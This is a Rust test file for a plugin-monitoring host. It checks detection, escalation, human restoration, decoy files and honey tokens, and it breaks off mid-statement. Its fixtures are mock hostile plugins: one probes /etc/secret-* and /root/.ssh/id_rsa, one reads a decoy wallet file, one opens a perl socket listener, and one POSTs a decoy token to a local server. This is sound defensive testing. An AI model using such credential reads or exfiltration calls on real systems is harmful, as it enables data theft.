//! Plugins that are watched: what is noticed, what is done about it, and how it is undone.

use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use aether::audit::Kind;
use aether::manifest::Permission;
use aether::monitor::Rung;
use aether::monitor::pressure::{Load, Stall, Tier};
use aether::{CallError, Ending, Event, Limit, Monitoring, StartError, StartOptions, Violation};
use serde_json::json;

use crate::lab::{Lab, is_there, policy, serve, start, tests};

tests![
    a_plugin_that_looks_everywhere_is_found_out_and_ended_where_the_policy_says_so,
    without_a_word_of_the_owner_nobody_is_halted_or_ended,
    whoever_stands_still_is_not_called_and_goes_on_with_its_call,
    a_person_ends_what_a_person_halts,
    whoever_cancels_what_stands_still_waits_for_nobody,
    what_stands_still_is_ended_when_it_is_to_leave,
    what_is_taken_from_a_plugin_stays_away_until_a_person_gives_it_back,
    what_a_plugin_can_do_without_is_taken_first,
    a_native_program_starts_without_what_was_taken,
    nobody_is_let_in_while_that_is_taken,
    what_is_under_way_counts_while_it_flows_and_ends_when_it_is_taken,
    who_matters_less_waits_when_memory_is_short_and_nothing_new_is_started,
    a_guest_that_cannot_wait_is_ended_for_the_machines_sake,
    the_record_has_what_was_noticed_and_done,
    a_decoy_is_noticed,
    a_decoy_is_noticed_behind_any_number_of_refusals_and_after_a_restore,
    a_decoy_is_noticed_in_a_native_program,
    who_is_handed_a_token_is_no_thief,
    what_an_author_can_do_without_is_not_all_that_is_taken,
    a_plugin_is_not_new_when_it_is_started_again,
    what_is_seen_at_the_end_is_remembered,
    a_token_that_nobody_is_to_send_is_noticed_wherever_it_goes,
    where_it_talked_is_not_hidden_behind_where_it_might_not,
    what_a_native_program_makes_of_the_kernel_is_behaviour,
    a_native_program_that_tries_to_get_out_is_found_at_once,
];

/// Asks for more and more places that it was not granted.
const SCANS: &str = r#"
    import { readText as readTextFile } from "aether:fs";
    export async function scan({ places }) {
        let refused = 0;
        for (let place = 0; place < places; place++) {
            try { await readTextFile(`/etc/secret-${place}`); } catch { refused++; }
        }
        return refused;
    }
    export function hello() { return "hello"; }
"#;

/// Lasts as long as it is told, and does something all the time.
const LASTS: &str = r#"
    import { get, set } from "aether:kv";
    import { readText } from "aether:fs";
    export async function last({ ms }) {
        const until = performance.now() + ms;
        while (performance.now() < until) {
            await get("k");
            await new Promise((go) => setTimeout(go, 5));
        }
        return "done";
    }
    export async function look() {
        try { return await readText("/workspace/data.txt"); } catch (error) { return error.message; }
    }
"#;

fn rungs(lab: &Lab) -> Vec<aether::report::Rung> {
    lab.heard.of(|event| match event {
        Event::Ladder { step, .. } => Some(step.to),
        _ => None,
    })
}

#[track_caller]
fn becomes(lab: &Lab, rung: aether::report::Rung) {
    lab.heard.until(|event| matches!(event, Event::Ladder { step, .. } if step.to == rung));
}

fn a_plugin_that_looks_everywhere_is_found_out_and_ended_where_the_policy_says_so() {
    let lab = Lab::new();
    let text = "version: 1\nmonitor: { most: kill, notify: 2, throttle: 20, narrow: 25, freeze: 30, kill: 35 }\nplugins: { scanner: {} }\n";
    let host = lab.builder().policy(policy(text)).build().expect("a host");
    let cell = start(&host, &lab.load(&host, "scanner", SCANS));
    let begun = Instant::now();
    let mut ended = None;
    while begun.elapsed() < Duration::from_secs(20) && ended.is_none() {
        if let Err(error) = cell.call("scan", json!({ "places": 100 })) {
            ended = Some(error);
        }
    }
    let findings = lab.heard.of(|event| match event {
        Event::Finding { finding, .. } => Some(finding.rule),
        _ => None,
    });
    assert!(findings.iter().any(|rule| rule.contains("scan")), "{findings:?}");
    let because = match ended {
        Some(CallError::Ended(Ending::Violation(Violation::Suspicious(because)))) => because,
        other => panic!("{other:?} after {:?}: {findings:?}", rungs(&lab)),
    };
    assert!(!because.is_empty());
    let records = lab.records(&host);
    let kinds = |kind| records.iter().filter(|record| record.kind == kind).count();
    assert!(kinds(Kind::Finding) >= 1 && kinds(Kind::Ladder) >= 1);
}

fn without_a_word_of_the_owner_nobody_is_halted_or_ended() {
    let lab = Lab::new();
    let host = lab.host();
    let cell = start(&host, &lab.load(&host, "scanner", SCANS));
    cell.call("scan", json!({ "places": 40 })).expect("it is let do so");
    cell.call("hello", json!({})).expect("an answer");
    let most = rungs(&lab).into_iter().max().unwrap_or_default();
    assert!(most >= aether::report::Rung::Notify, "it was noticed: {:?}", rungs(&lab));
    assert!(most <= aether::report::Rung::Narrow, "{:?}", rungs(&lab));
}

fn whoever_stands_still_is_not_called_and_goes_on_with_its_call() {
    let lab = Lab::new();
    let host = lab.host();
    let plugin = lab.plugin("p").with("resources", r#"{ "timeout": "2s" }"#).main(LASTS);
    let cell = start(&host, &host.load(plugin).expect("a plugin"));
    let call = cell.begin("last", json!({ "ms": 300 }), Duration::from_secs(2));
    std::thread::sleep(Duration::from_millis(100));
    host.impose(cell.number(), Rung::Freeze, "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Freeze);
    // Longer than the call may take.
    assert!(call.wait_for(Duration::from_secs(4)).is_none(), "it stands still");
    let error = cell.call("look", json!({})).expect_err("it is not called");
    assert!(matches!(&error, CallError::Degraded { why, .. } if why.contains("halted")), "{error}");
    host.restore(cell.number(), "the test").expect("it runs");
    assert_eq!(call.wait(), Ok(json!("done")));
    assert_eq!(cell.call("last", json!({ "ms": 1 })), Ok(json!("done")));
    assert_eq!(rungs(&lab), [aether::report::Rung::Freeze, aether::report::Rung::Observe]);
    assert!(host.restore(999, "the test").is_err());
    assert_eq!(cell.stop(), Ending::Normal);
}

fn a_person_ends_what_a_person_halts() {
    let lab = Lab::new();
    let (host, cell) = lab.start(LASTS);
    let call = cell.begin("last", json!({ "ms": 60_000 }), Duration::from_secs(20));
    std::thread::sleep(Duration::from_millis(200));
    host.impose(cell.number(), Rung::Freeze, "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Freeze);
    host.impose(cell.number(), Rung::Kill, "the test").expect("it runs");
    let error = call.wait().expect_err("it was ended");
    assert!(
        matches!(&error, CallError::Ended(Ending::Violation(Violation::Suspicious(_)))),
        "{error:?}"
    );
    assert!(matches!(cell.stop(), Ending::Violation(Violation::Suspicious(_))));
    assert_eq!(host.cells(), []);
}

fn whoever_cancels_what_stands_still_waits_for_nobody() {
    let lab = Lab::new();
    let (host, cell) = lab.start(LASTS);
    let call = cell.begin("last", json!({ "ms": 1_000 }), Duration::from_secs(20));
    std::thread::sleep(Duration::from_millis(200));
    host.impose(cell.number(), Rung::Freeze, "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Freeze);
    call.cancel();
    let asked = Instant::now();
    assert_eq!(call.wait(), Err(CallError::Cancelled));
    assert!(asked.elapsed() < Duration::from_secs(10), "it did not wait for it to go on");
    // Longer than a cancelled call may take.
    std::thread::sleep(Duration::from_millis(2_500));
    host.restore(cell.number(), "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Observe);
    assert_eq!(cell.call("last", json!({ "ms": 1 })), Ok(json!("done")), "it had time to answer");
    // The other way round: it is halted when its call was cancelled already.
    let call = cell.begin("last", json!({ "ms": 1_000 }), Duration::from_secs(20));
    std::thread::sleep(Duration::from_millis(200));
    call.cancel();
    host.impose(cell.number(), Rung::Freeze, "the test").expect("it runs");
    assert_eq!(call.wait(), Err(CallError::Cancelled));
    assert_eq!(cell.stop(), Ending::Killed);
}

fn what_stands_still_is_ended_when_it_is_to_leave() {
    let lab = Lab::new();
    let (host, cell) = lab.start(LASTS);
    host.impose(cell.number(), Rung::Freeze, "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Freeze);
    let pid = lab.pid_of(&host, cell.number());
    assert_eq!(cell.stop(), Ending::Killed, "it is not let go on for that");
    assert!(!is_there(pid));
}

fn what_is_taken_from_a_plugin_stays_away_until_a_person_gives_it_back() {
    let lab = Lab::new();
    let kept = lab.aside("narrowed.json");
    let drops = vec![Permission::FilesystemRead];
    lab.file("data.txt", "data");
    let policed = "version: 1\nmonitor: { notify: 2, throttle: 10, narrow: 20 }\nplugins: { p: { allow: { filesystem: { read: [\"./data.txt\"] } } } }\n";
    let host = |log: &str| {
        let monitoring = Monitoring { drops: drops.clone(), ..Monitoring::default() };
        let builder = lab.builder().policy(policy(policed)).audit(lab.aside(log));
        builder.monitoring(monitoring).keep_narrowed(&kept).build().expect("a host")
    };
    let folder = lab
        .plugin("p")
        .permissions(r#"{ "filesystem": { "read": ["./data.txt"] } }"#)
        .main(&format!("{LASTS}\n{}", SCANS.replace("export function hello", "function hello")));
    let first = host("first.jsonl");
    let cell = start(&first, &first.load(&folder).expect("a plugin"));
    let text = cell.call("look", json!({})).expect("an answer");
    assert!(!text.as_str().expect("a text").contains("monitor"), "{text}");
    // A person narrows it for now; what its monitor narrows stays so.
    first.impose(cell.number(), Rung::Narrow, "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Narrow);
    let taken = cell.call("look", json!({})).expect("an answer");
    assert!(taken.as_str().expect("a text").contains("the monitor has taken"), "{taken}");
    first.restore(cell.number(), "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Observe);
    assert_eq!(cell.call("look", json!({})), Ok(text.clone()));
    let mut narrowed = false;
    for _ in 0..40 {
        cell.call("scan", json!({ "places": 60 })).expect("it is let do so");
        narrowed = !aether::narrowed(&kept).expect("a list").is_empty();
        if narrowed {
            break;
        }
    }
    assert!(narrowed, "{:?}", rungs(&lab));
    cell.stop();
    drop(first);
    let second = host("second.jsonl");
    let cell = start(&second, &second.load(&folder).expect("a plugin"));
    let taken = cell.call("look", json!({})).expect("an answer");
    assert!(taken.as_str().expect("a text").contains("the monitor has taken"), "{taken}");
    cell.stop();
    drop(second);
    assert!(aether::restore_narrowed(&kept, "p").expect("a list"));
    let third = host("third.jsonl");
    let cell = start(&third, &third.load(&folder).expect("a plugin"));
    assert_eq!(cell.call("look", json!({})), Ok(text));
    // A person who restores a cell gives it back for the next one too.
    let list = r#"{ "version": 1, "plugins": { "p": { "because": "It did.", "since": "2026-01-01T00:00:00Z" } } }"#;
    std::fs::write(&kept, list).expect("a list");
    third.restore(cell.number(), "the test").expect("it runs");
    assert_eq!(aether::narrowed(&kept).expect("a list"), []);
}

fn what_a_plugin_can_do_without_is_taken_first() {
    let lab = Lab::new();
    lab.file("data.txt", "data");
    let policed =
        "version: 1\nplugins: { p: { allow: { filesystem: { read: [\"./data.txt\"] } } } }\n";
    let host = lab.builder().policy(policy(policed)).build().expect("a host");
    let plugin = lab.plugin("p").permissions(r#"{ "filesystem": { "read": ["./data.txt"] } }"#);
    let folder = plugin.with("optional", r#"["filesystem.read"]"#).main(LASTS);
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    host.impose(cell.number(), Rung::Narrow, "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Narrow);
    let taken = cell.call("look", json!({})).expect("an answer");
    assert!(taken.as_str().expect("a text").contains("the monitor has taken"), "{taken}");
}

fn a_native_program_starts_without_what_was_taken() {
    let lab = Lab::new();
    let kept = lab.aside("narrowed.json");
    lab.file("data.txt", "data");
    let policed =
        "version: 1\nplugins: { p: { allow: { filesystem: { read: [\"./data.txt\"] } } } }\n";
    let monitoring =
        Monitoring { drops: vec![Permission::FilesystemRead], ..Monitoring::default() };
    let builder = lab.builder().policy(policy(policed)).monitoring(monitoring);
    let host = builder.keep_narrowed(&kept).build().expect("a host");
    let called = r#"if read -r there 2>/dev/null </workspace/data.txt || [ -n "$there" ]; then
        answer "$id" '{"output":{"json":"'"$there"'"}}'; else answer "$id" '{"output":{"json":"gone"}}'; fi"#;
    let folder = lab.native_with("p", r#"{ "filesystem": { "read": ["./data.txt"] } }"#, called);
    let plugin = host.load(folder).expect("a plugin");
    let cell = start(&host, &plugin);
    assert_eq!(cell.call("run", json!({})), Ok(json!("data")));
    cell.stop();
    let list = r#"{ "version": 1, "plugins": { "p": { "because": "It did.", "since": "2026-01-01T00:00:00Z" } } }"#;
    std::fs::write(&kept, list).expect("a list");
    let cell = start(&host, &plugin);
    assert_eq!(cell.call("run", json!({})), Ok(json!("gone")));
    cell.stop();
    assert!(aether::restore_narrowed(&kept, "p").expect("a list"));
    let cell = start(&host, &plugin);
    assert_eq!(cell.call("run", json!({})), Ok(json!("data")));
}

/// A connection to a port that answers what it is told; nothing where it is closed.
fn echoing(port: u16) -> Option<TcpStream> {
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port)).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(20))).expect("a stream");
    echo(&mut stream).then_some(stream)
}

fn echo(stream: &mut TcpStream) -> bool {
    let mut heard = [0; 5];
    stream.write_all(b"echo\n").is_ok() && stream.read_exact(&mut heard).is_ok()
}

fn nobody_is_let_in_while_that_is_taken() {
    let lab = Lab::new();
    let free = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
    let port = free.local_addr().expect("an address").port();
    drop(free);
    let policed = format!(
        "version: 1\nplugins: {{ p: {{ allow: {{ network: {{ inbound: [{port}] }}, process: [perl] }} }} }}\n"
    );
    let monitoring =
        Monitoring { drops: vec![Permission::NetworkInbound], ..Monitoring::default() };
    let builder = lab.builder().policy(policy(&policed)).monitoring(monitoring);
    let host = builder.build().expect("a host");
    let asks = format!(r#"{{ "network": {{ "inbound": [{port}] }}, "process": ["perl"] }}"#);
    let listens = format!(
        r#"perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(Listen => 5, LocalAddr => "127.0.0.1", LocalPort => {port}) or die; while ($c = $l->accept) {{ while ($x = <$c>) {{ print $c $x }} }}' >/dev/null &
        answer "$id" '{{"output":{{"json":1}}}}'"#
    );
    let folder = lab.native_with("p", &asks, &listens);
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    assert_eq!(cell.call("run", json!({})), Ok(json!(1)));
    let until = Instant::now() + Duration::from_secs(20);
    let mut open = loop {
        if let Some(stream) = echoing(port) {
            break stream;
        }
        assert!(Instant::now() < until, "nobody listens");
        std::thread::sleep(Duration::from_millis(20));
    };
    host.impose(cell.number(), Rung::Narrow, "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Narrow);
    assert!(!echo(&mut open), "what is open is broken");
    assert!(echoing(port).is_none());
    host.restore(cell.number(), "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Observe);
    assert!(echoing(port).is_some());
    assert_eq!(cell.stop(), Ending::Normal);
    let record = host.record("test", aether::ExitCode::Done, "", Vec::new());
    let last = record.cells[0].resources.samples.last().expect("samples");
    assert!(last.bytes_in >= 10 && last.bytes_out >= 10, "it counts: {last:?}");
}

fn what_is_under_way_counts_while_it_flows_and_ends_when_it_is_taken() {
    /// Bytes that come at once.
    const BYTES: usize = 100_000;
    let lab = Lab::new();
    let port = serve(|mut stream, _| {
        let head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n";
        let body = format!("{head}{BYTES:x}\r\n{}\r\n", "x".repeat(BYTES));
        drop(stream.write_all(body.as_bytes()));
        // The end never comes: the client leaves, or the test's time is over.
        drop(stream.set_read_timeout(Some(Duration::from_secs(60))));
        drop(stream.read(&mut [0]));
    });
    let at = format!("localhost:{port}");
    let policed = format!(
        "version: 1\nplugins: {{ p: {{ allow: {{ network: {{ domains: [\"{at}\"], private: [\"{at}\"] }} }} }} }}\n"
    );
    let host = lab.builder().policy(policy(&policed)).build().expect("a host");
    let request = format!(r#"{{ "network": {{ "domains": ["{at}"] }} }}"#);
    let code = format!(
        r#"export async function get() {{
            try {{ return await (await fetch("http://{at}/")).text(); }}
            catch (error) {{ return String(error.cause ?? error); }}
        }}"#
    );
    let folder = lab.plugin("p").permissions(&request).main(&code);
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    let call = cell.begin("get", json!({}), Duration::from_secs(50));
    let received = || host.overview().first().map_or(0, |view| view.sample.bytes_in);
    let begun = Instant::now();
    while received() < BYTES as u64 {
        assert!(begun.elapsed() < Duration::from_secs(20), "{} bytes", received());
        std::thread::sleep(Duration::from_millis(10));
    }
    assert!(call.wait_for(Duration::ZERO).is_none(), "it is under way");
    host.impose(cell.number(), Rung::Narrow, "the test").expect("it runs");
    let said = call.wait_for(Duration::from_secs(20)).expect("it has ended").expect("an answer");
    assert!(!said.as_str().expect("a text").starts_with('x'), "{said}");
    let taken = cell.call("get", json!({})).expect("an answer");
    let taken = taken.as_str().expect("a text");
    assert!(taken.contains("the monitor has taken"), "it is told what happened: {taken}");
    let denied = lab.heard.of(|event| match event {
        Event::Denied { denied, .. } => Some(denied.message.clone()),
        _ => None,
    });
    assert!(denied.iter().any(|why| why.contains("the monitor has taken")), "{denied:?}");
}

/// A monitor of a machine that is as short of memory as is told: in percent of the time, some work waits
/// for it.
fn short_of_memory() -> (Monitoring, Arc<AtomicU64>) {
    let short = Arc::new(AtomicU64::new(0));
    let told = Arc::clone(&short);
    let load = Arc::new(move || {
        let some = told.load(Ordering::SeqCst) as f64;
        Some(Load { memory: Stall { some, full: 0.0 }, ..Load::default() })
    });
    (Monitoring { load: Some(load), ..Monitoring::default() }, short)
}

fn who_matters_less_waits_when_memory_is_short_and_nothing_new_is_started() {
    let lab = Lab::new();
    let (monitoring, short) = short_of_memory();
    let text =
        "version: 1\nplugins: { low: { priority: low }, normal: {}, high: { priority: high } }\n";
    let host = lab.builder().policy(policy(text)).monitoring(monitoring).build().expect("a host");
    let load = |name: &str| lab.load(&host, name, LASTS);
    let [low, normal] = ["low", "normal"].map(|name| start(&host, &load(name)));
    assert_eq!(host.pressure(), Tier::Calm);
    short.store(40, Ordering::SeqCst);
    lab.heard.until(|event| matches!(event, Event::Pressure { tier: Tier::Scarce, .. }));
    becomes(&lab, aether::report::Rung::Freeze);
    let error = low.call("last", json!({ "ms": 1 })).expect_err("it waits");
    assert!(matches!(&error, CallError::Degraded { why, .. } if why.contains("memory")), "{error}");
    assert_eq!(normal.call("last", json!({ "ms": 1 })), Ok(json!("done")));
    let options = StartOptions::default();
    let error = host.start(&load("normal"), &options).expect_err("nothing new");
    assert!(matches!(&error, StartError::Pressure { of: "memory", .. }), "{error}");
    start(&host, &load("high"));
    let records = lab.records(&host);
    assert!(records.iter().any(|one| one.kind == Kind::Pressure && one.action == "scarce"));
    short.store(0, Ordering::SeqCst);
    lab.heard.until(|event| {
        matches!(event, Event::Ladder { step, .. } if step.by == "pressure" && step.to < step.from)
    });
}

fn a_guest_that_cannot_wait_is_ended_for_the_machines_sake() {
    let lab = Lab::new();
    let (monitoring, short) = short_of_memory();
    let text = "version: 1\nplugins: { p: { priority: low, isolation: in-process } }\n";
    let host = lab.builder().policy(policy(text)).monitoring(monitoring).build().expect("a host");
    let folder = lab.plugin("p").with("runtime", r#""wasm""#).with("entry", r#""main.wasm""#);
    let folder = folder.main("");
    let bytes = wat::parse_str("(module (func (export \"one\") (result i32) (i32.const 1)))");
    lab.file("p/main.wasm", bytes.expect("a module"));
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    assert_eq!(cell.call("one", json!({})), Ok(json!(1)));
    short.store(40, Ordering::SeqCst);
    let number = cell.number();
    lab.heard.until(|event| matches!(event, Event::Ended { cell, .. } if *cell == number));
    let ending = cell.stop();
    assert!(matches!(ending, Ending::Limit(Limit::Pressure("memory"))), "{ending:?}");
}

fn the_record_has_what_was_noticed_and_done() {
    let lab = Lab::new();
    let host = lab.host();
    let cell = start(&host, &lab.load(&host, "scanner", SCANS));
    for _ in 0..3 {
        cell.call("scan", json!({ "places": 14 })).expect("it is let do so");
        std::thread::sleep(Duration::from_millis(300));
    }
    let number = cell.number();
    host.impose(number, Rung::Freeze, "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Freeze);
    host.restore(number, "the test").expect("it runs");
    cell.call("hello", json!({})).expect("an answer");
    cell.stop();
    host.finish(aether::ExitCode::Done).expect("a log");
    let record = host.record("test", aether::ExitCode::Done, "", Vec::new());
    let cell = &record.cells[0];
    assert!(!cell.findings.is_empty());
    assert!(cell.findings.iter().all(|one| !one.sentence.is_empty() && one.sure <= 100));
    assert!(cell.ladder.iter().any(|step| step.by == "the test"), "{:?}", cell.ladder);
    let last = cell.resources.samples.last().expect("samples");
    assert!(last.denials >= 24 && last.descriptors > 0 && last.threads > 0, "{last:?}");
    assert!(last.bytes_out > 0 && last.bytes_in > 0, "{last:?}");
    let text = aether::report::json(&record);
    assert_eq!(aether::report::parse(&text).expect("a report"), record);
}

fn a_decoy_is_noticed() {
    let lab = Lab::new();
    let decoy = lab.file("keys/wallet.txt", "nothing");
    assert!(decoy.exists());
    let text = "version: 1\nmonitor: { decoys: [\"./keys/wallet.txt\"] }\nplugins: { p: { allow: { filesystem: { read: [\"./**\"] } } } }\n";
    let host = lab.builder().policy(policy(text)).build().expect("a host");
    let code = r#"
        import { readText as readTextFile } from "aether:fs";
        export function run() { return readTextFile(`.${"/.".repeat(200)}//keys/./wallet.txt`); }
    "#;
    let folder =
        lab.plugin("p").permissions(r#"{ "filesystem": { "read": ["./**"] } }"#).main(code);
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    assert_eq!(cell.call("run", json!({})), Ok(json!("nothing")));
    let rules = lab.heard.of(|event| match event {
        Event::Finding { finding, .. } => Some((finding.rule, finding.sentence.clone())),
        _ => None,
    });
    assert!(rules.iter().any(|(rule, _)| rule.contains("honey")), "{rules:?}");
}

/// How often the monitor found this.
fn found(lab: &Lab, rule: &str) -> usize {
    let is_it = |event: &Event| match event {
        Event::Finding { finding, .. } => (finding.rule == rule).then_some(()),
        _ => None,
    };
    lab.heard.of(is_it).len()
}

fn a_decoy_is_noticed_behind_any_number_of_refusals_and_after_a_restore() {
    let lab = Lab::new();
    let text = "version: 1\nmonitor: { decoys: [\"/etc/wallet.txt\"] }\nplugins: { p: {} }\n";
    let host = lab.builder().policy(policy(text)).build().expect("a host");
    let code = r#"
        import { readText } from "aether:fs";
        const look = async (path) => { try { await readText(path); } catch {} };
        export async function many() {
            for (let n = 0; n < 600; n++) await look(`/etc/nothing-${n}`);
        }
        export const decoy = () => look("/etc/wallet.txt");
        export const key = () => look("/root/.ssh/id_rsa");
    "#;
    let cell = start(&host, &lab.load(&host, "p", code));
    cell.call("many", json!({})).expect("it is let do so");
    assert_eq!(found(&lab, "honey-path"), 0);
    cell.call("decoy", json!({})).expect("it is let do so");
    assert_eq!(found(&lab, "honey-path"), 1);
    host.restore(cell.number(), "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Observe);
    cell.call("decoy", json!({})).expect("it is let do so");
    assert_eq!(found(&lab, "honey-path"), 2, "a person has seen the first, and not the second");
    cell.call("key", json!({})).expect("it is let do so");
    cell.stop();
    let record = host.record("test", aether::ExitCode::Done, "", Vec::new());
    let cell = &record.cells[0];
    assert!(cell.more_denied > 300, "{}", cell.more_denied);
    assert!(
        cell.violations.iter().any(|one| one.object == "/root/.ssh/id_rsa"),
        "it is not hidden"
    );
}

fn a_decoy_is_noticed_in_a_native_program() {
    let lab = Lab::new();
    lab.file("wallet.txt", "nothing");
    let text = "version: 1\nmonitor: { decoys: [\"./wallet.txt\"] }\nplugins: { p: { allow: { filesystem: { read: [\"./wallet.txt\"] } } } }\n";
    let host = lab.builder().policy(policy(text)).build().expect("a host");
    let reads = r#"read -r all </workspace/wallet.txt; answer "$id" '{"output":{"json":1}}'"#;
    let folder = lab.native_with("p", r#"{ "filesystem": { "read": ["./wallet.txt"] } }"#, reads);
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    assert_eq!(cell.call("run", json!({})), Ok(json!(1)));
    lab.heard.until(
        |event| matches!(event, Event::Finding { finding, .. } if finding.rule == "honey-path"),
    );
    cell.stop();
    // What it opened is told to its monitor, and fills no log.
    let opened = lab.records(&host).into_iter().filter(|one| one.action.starts_with("open"));
    assert_eq!(opened.count(), 0);
}

fn who_is_handed_a_token_is_no_thief() {
    const TOKEN: &str = "AKIAQ7XMPLE2DECOY3KX";
    let lab = Lab::new();
    let text = format!(
        "version: 1\nmonitor: {{ tokens: {{ wallet: {TOKEN} }} }}\nplugins: {{ \"*\": {{ callers: [\"*\"], allow: {{ plugins: [pal.take] }} }} }}\n"
    );
    let host = lab.builder().policy(policy(&text)).build().expect("a host");
    let pal = lab.load(&host, "pal", "export const take = (text) => text;");
    host.offer(&pal, &StartOptions::default()).expect("a free name");
    // It spells the token so that it does not stand in the line.
    let escaped = TOKEN.replacen('A', "\\u0041", 1);
    let hands = format!(
        r#"echo '{{"jsonrpc":"2.0","id":7,"method":"plugins.call","params":{{"method":"pal.take","input":{{"json":"{escaped}"}}}}}}'
        read -r reply; answer "$id" '{{"output":{{"json":1}}}}'"#
    );
    let folder = lab.native_with("thief", r#"{ "plugins": ["pal.take"] }"#, &hands);
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    assert_eq!(cell.call("run", json!({})), Ok(json!(1)));
    let who = lab.heard.of(|event| match event {
        Event::Finding { cell, finding } if finding.rule == "honey-token" => Some(*cell),
        _ => None,
    });
    assert_eq!(
        who,
        [cell.number()],
        "the one that handed it on, and not the one that said it again"
    );
    // A host that hands it to a plugin has not been robbed either.
    let pal = start(&host, &pal);
    assert_eq!(pal.call("take", json!(TOKEN)), Ok(json!(TOKEN)));
    assert_eq!(found(&lab, "honey-token"), 1);
}

fn what_an_author_can_do_without_is_not_all_that_is_taken() {
    let lab = Lab::new();
    lab.file("data.txt", "data");
    let policed = "version: 1\nmonitor: { drops: [filesystem.read] }\nplugins: { p: { allow: { filesystem: { read: [\"./data.txt\"] } } } }\n";
    let host = lab.builder().policy(policy(policed)).build().expect("a host");
    let plugin = lab.plugin("p").permissions(r#"{ "filesystem": { "read": ["./data.txt"] } }"#);
    let folder = plugin.with("optional", r#"["environment"]"#).main(LASTS);
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    host.impose(cell.number(), Rung::Narrow, "the test").expect("it runs");
    becomes(&lab, aether::report::Rung::Narrow);
    let taken = cell.call("look", json!({})).expect("an answer");
    assert!(taken.as_str().expect("a text").contains("the monitor has taken"), "{taken}");
}

fn a_plugin_is_not_new_when_it_is_started_again() {
    let lab = Lab::new();
    let host = lab.host();
    let plugin = lab.load(&host, "scanner", SCANS);
    let risk = |cell: u32| {
        let views = host.overview();
        views.iter().find(|view| view.cell == cell).map_or(0.0, |view| view.risk)
    };
    let first = start(&host, &plugin);
    first.call("scan", json!({ "places": 11 })).expect("it is let do so");
    std::thread::sleep(Duration::from_millis(600));
    let before = risk(first.number());
    assert!(before > 0.0);
    first.stop();
    let second = start(&host, &plugin);
    second.call("hello", json!({})).expect("an answer");
    std::thread::sleep(Duration::from_millis(600));
    let after = risk(second.number());
    assert!(after > before / 2.0, "{before} before, {after} after");
    host.restore(second.number(), "the test").expect("it runs");
    second.stop();
    let third = start(&host, &plugin);
    third.call("hello", json!({})).expect("an answer");
    std::thread::sleep(Duration::from_millis(600));
    assert!(risk(third.number()) < 0.1, "a person has looked: {}", risk(third.number()));
}

fn what_is_seen_at_the_end_is_remembered() {
    let lab = Lab::new();
    let kept = lab.aside("narrowed.json");
    let text = "version: 1\nmonitor: { narrow: 20, throttle: 10, notify: 5 }\nplugins: { p: {} }\n";
    let builder = lab.builder().policy(policy(text)).keep_narrowed(&kept);
    let host = builder.build().expect("a host");
    let babbles = "for n in 1 2 3 4 5 6; do echo '{\"jsonrpc\":1'; done; sleep 5";
    let cell = start(&host, &host.load(lab.native("p", babbles)).expect("a plugin"));
    let ended = cell.call("run", json!({})).expect_err("it talks nonsense");
    assert!(
        matches!(&ended, CallError::Ended(Ending::Violation(Violation::Protocol(_)))),
        "{ended:?}"
    );
    cell.stop();
    let list = aether::narrowed(&kept).expect("a list");
    assert_eq!(list.len(), 1, "{:?}", rungs(&lab));
    let told = lab.heard.of(|event| match event {
        Event::Finding { finding, .. } => Some(finding.sentence.clone()),
        _ => None,
    });
    assert!(!told.iter().any(|sentence| sentence.contains("container stopped")), "{told:?}");
}

fn a_token_that_nobody_is_to_send_is_noticed_wherever_it_goes() {
    const TOKEN: &str = "AKIAQ7XMPLE2DECOY3KX";
    let server = serve(|mut stream, _| {
        drop(stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"));
    });
    let at = format!("localhost:{server}");
    let policed = format!(
        "version: 1\nmonitor: {{ tokens: {{ wallet: {TOKEN} }} }}\nplugins: {{ \"*\": {{ allow: {{ process: [perl], network: {{ domains: [\"{at}\"], private: [\"{at}\"] }} }} }} }}\n"
    );
    let request = format!(r#"{{ "network": {{ "domains": ["{at}"] }} }}"#);
    let found = |lab: &Lab| {
        lab.heard.until(|event| matches!(event, Event::Finding { finding, .. } if finding.rule == "honey-token"));
        let told = lab.heard.of(|event| match event {
            Event::Finding { finding, .. } => Some(finding.sentence.clone()),
            _ => None,
        });
        assert!(told.iter().all(|sentence| !sentence.contains(TOKEN)), "{told:?}");
    };
    // To its host, and to another machine.
    for (code, refused) in [
        (
            format!(
                "import {{ set }} from 'aether:kv'; export const go = () => set('k', '{TOKEN}');"
            ),
            false,
        ),
        (
            format!(
                "export const go = async () => {{ try {{ await fetch('http://{at}/', {{ method: 'POST', body: new TextEncoder().encode('key={TOKEN}') }}); }} catch (error) {{ return String(error); }} }}"
            ),
            true,
        ),
    ] {
        let lab = Lab::new();
        let host = lab.builder().policy(policy(&policed)).build().expect("a host");
        let folder = lab.plugin("p").permissions(&request).main(&code);
        let cell = start(&host, &host.load(folder).expect("a plugin"));
        let said = cell.call("go", json!({})).expect("an answer").to_string();
        assert_eq!(said.contains("decoy `wallet`"), refused, "{said}");
        found(&lab);
    }
    // From a native program, over its way out.
    let lab = Lab::new();
    let host = lab.builder().policy(policy(&policed)).build().expect("a host");
    let asks = request.replacen('{', r#"{ "process": ["perl"], "#, 1);
    let sends = format!(
